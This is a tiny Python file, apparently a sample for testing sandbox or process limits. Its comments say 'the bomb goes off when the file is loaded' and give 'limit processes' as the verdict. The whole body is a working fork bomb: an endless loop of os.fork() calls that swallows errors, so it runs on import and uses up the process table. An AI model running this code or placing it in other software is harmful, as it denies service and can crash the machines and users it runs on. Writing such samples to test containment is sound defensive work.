# what: the bomb goes off when the file is loaded
# verdict: limit processes
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
